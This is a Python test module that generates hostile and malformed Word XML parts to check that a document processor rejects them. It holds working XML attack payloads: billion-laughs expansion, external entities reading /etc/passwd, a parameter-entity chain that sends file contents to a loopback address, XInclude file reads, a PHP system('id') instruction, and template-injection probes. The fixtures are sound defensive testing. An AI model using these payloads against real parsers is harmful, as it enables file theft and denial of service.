"""XML that explodes, points outside, is nested without end, or is none."""

from collections.abc import Callable

from tests.hostile.cases import CANARY, DECLARED, GOOD, Case, body, docx, members, paragraph, zipped

_LAUGHS = "".join(f'<!ENTITY l{n} "{"&l%d;" % (n - 1) * 10}">' for n in range(1, 10))
_PARAMETERS = (
    f'<!DOCTYPE d [<!ENTITY % file SYSTEM "file://{CANARY}"><!ENTITY % all "<!ENTITY send SYSTEM'
    " 'http://127.0.0.1:9/?%file;'>\">%all;]>"
)
#: Document types, which no part of a Word file has.
_TYPES = {
    "billion-laughs": (f'<!DOCTYPE d [<!ENTITY l0 "ha">{_LAUGHS}]>', "&l9;"),
    "quadratic": (f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>', "&a;" * 20_000),
    "entity-of-a-file": (f'<!DOCTYPE d [<!ENTITY e SYSTEM "file://{CANARY}">]>', "&e;"),
    "entity-of-etc-passwd": ('<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
    "entity-of-an-address": ('<!DOCTYPE d [<!ENTITY e SYSTEM "http://127.0.0.1:9/e">]>', "&e;"),
    "parameter-entities": (_PARAMETERS, "&send;"),
    "type-of-an-address": ('<!DOCTYPE d SYSTEM "http://127.0.0.1:9/d.dtd">', "Hello"),
    "type-of-a-file": (f'<!DOCTYPE d SYSTEM "file://{CANARY}">', "Hello"),
    "type-alone": ("<!DOCTYPE d>", "Hello"),
    "entity-of-itself": ('<!DOCTYPE d [<!ENTITY e "&e;">]>', "&e;"),
    "attribute-defaults": ('<!DOCTYPE d [<!ATTLIST w:t a CDATA "&#x7b;&#x7b;7*7}}">]>', "Hello"),
}
_DEEP = 100_000
#: Main parts that are refused or, where they do no harm, taken.
_PARTS: dict[str, Callable[[], str | bytes]] = {
    "nested-100000-deep": lambda: body("<w:p>" * _DEEP + "</w:p>" * _DEEP),
    "nested-tables-1000-deep": lambda: body("<w:tbl><w:tr><w:tc>" * 1_000 + "</w:tc></w:tr></w:tbl>" * 1_000),
    "nested-runs-200-deep": lambda: body("<w:p>" + "<w:ins>" * 200 + "</w:ins>" * 200 + "</w:p>"),
    "attribute-of-11-megabytes": lambda: body(f'<w:p a="{"a" * 11_000_000}"/>'),
    "50000-attributes": lambda: body("<w:p " + " ".join(f'a{n}=""' for n in range(50_000)) + "/>"),
    "50000-namespaces": lambda: body("<w:p " + " ".join(f'xmlns:a{n}="u{n}"' for n in range(50_000)) + "/>"),
    "text-of-12-megabytes": lambda: body(paragraph("a " * 6_000_000)),
    "name-of-a-megabyte": lambda: body(f"<w:{'a' * 1_000_000}/>"),
    "comment-of-a-megabyte": lambda: body(f"<!--{'a' * 1_000_000}-->"),
    "instructions": lambda: body('<?php system("id") ?><?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>'),
    "100000-empty-paragraphs": lambda: body("<w:p/>" * 100_000),
    "never-closed": lambda: body("<w:p><w:r>")[:-30],
    "closed-twice": lambda: body("</w:p></w:p>"),
    "nulls": lambda: body(paragraph("a\0b")),
    "null-reference": lambda: body(paragraph("a&#0;b")),
    "control-reference": lambda: body(paragraph("a&#27;b")),
    "surrogate-reference": lambda: body(paragraph("a&#xD800;b")),
    "reference-too-large": lambda: body(paragraph("a&#x110000;b")),
    "unknown-prefix": lambda: body("<q:p/>"),
    "same-attribute-twice": lambda: body('<w:p a="1" a="2"/>'),
    "utf-16": lambda: body(paragraph("Hello")).replace("UTF-8", "UTF-16").encode("utf-16"),
    "utf-16-called-utf-8": lambda: body(paragraph("Hello")).encode("utf-16"),
    "utf-7": lambda: body(paragraph("+ADw-w:p/+AD4-")).replace("UTF-8", "UTF-7").encode(),
    "utf-32": lambda: body(paragraph("Hello")).replace("UTF-8", "UTF-32").encode("utf-32"),
    "latin-1-called-utf-8": lambda: body(paragraph("café")).encode("latin-1"),
    "overlong-utf-8": lambda: body(paragraph("a@b")).encode().replace(b"@", b"\xc0\xbc"),
    "unknown-encoding": lambda: body(paragraph("Hello")).replace("UTF-8", "x-none").encode(),
    "ebcdic": lambda: body(paragraph("Hello")).replace("UTF-8", "cp037").encode("cp037"),
    "byte-order-marks": lambda: b"\xef\xbb\xbf" * 3 + body(paragraph("Hello")).encode(),
    "version-9": lambda: body(paragraph("Hello")).replace('"1.0"', '"9.0"'),
    "no-xml": lambda: b"\x89PNG\r\n\x1a\n" + bytes(100),
    "empty": lambda: b"",
    "html": lambda: "<html><body>Hello<br></body></html>",
    "inclusion": lambda: body(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{CANARY}" parse="text"/>'
    ),
    "declaration-in-the-middle": lambda: body(DECLARED),
    "only-a-declaration": lambda: DECLARED,
    "cdata-without-end": lambda: body("<w:p><![CDATA[" + "x" * 1_000),
    "sections-of-cdata": lambda: body(paragraph("<![CDATA[{{ 7*7 }}<w:p/>]]>")),
}


_SLOW = {"50000-attributes": ("render_timeout",), "50000-namespaces": ("render_timeout",)}


def cases() -> list[Case]:
    """Return the family: broken and hostile main parts, and the same types in other parts."""
    typed = [docx(f"xml-{name}", _typed(*declared), "template_error") for name, declared in _TYPES.items()]
    others = [
        docx(f"xml-laughs-in-{part.replace('/', '-')}", _elsewhere(part), "template_error", "invalid_output")
        for part in ("[Content_Types].xml", "_rels/.rels", "word/_rels/document.xml.rels", "word/styles.xml")
    ]
    allowed = ("template_error", "invalid_output", GOOD)
    parts = [docx(f"xml-{name}", _part(made), *allowed, *_SLOW.get(name, ())) for name, made in _PARTS.items()]
    return [*typed, *others, *parts]


def _typed(declared: str, text: str) -> Callable[[str], bytes]:
    return lambda canary: zipped(members(body(paragraph(text), declared).replace(CANARY, canary)))


def _elsewhere(part: str) -> Callable[[str], bytes]:
    def build(canary: str) -> bytes:
        files = members(body(paragraph("Hello")))
        text = str(files.get(part, f"{DECLARED}<a>1</a>"))
        declared, used = _TYPES["billion-laughs"]
        files[part] = text.replace(DECLARED, DECLARED + declared).replace("</", f"{used}</")
        if DECLARED not in text:
            files[part] = declared + str(files[part])
        return zipped(files)

    return build


def _part(made: Callable[[], str | bytes]) -> Callable[[str], bytes]:
    def build(canary: str) -> bytes:
        content = made()
        return zipped(members(content.replace(CANARY, canary) if isinstance(content, str) else content), 0)

    return build
